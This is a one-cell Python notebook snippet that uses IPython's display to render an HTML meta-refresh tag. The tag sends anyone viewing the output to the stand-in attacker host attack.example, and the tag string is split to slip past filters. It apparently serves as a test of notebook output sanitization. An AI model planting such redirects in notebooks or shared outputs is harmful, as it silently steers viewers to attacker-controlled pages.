# %%
from IPython.display import HTML, SVG, Latex, Markdown, Javascript, display

display(HTML('<meta http-equiv=' + 'refresh content="0;url=https://attack.example">'))
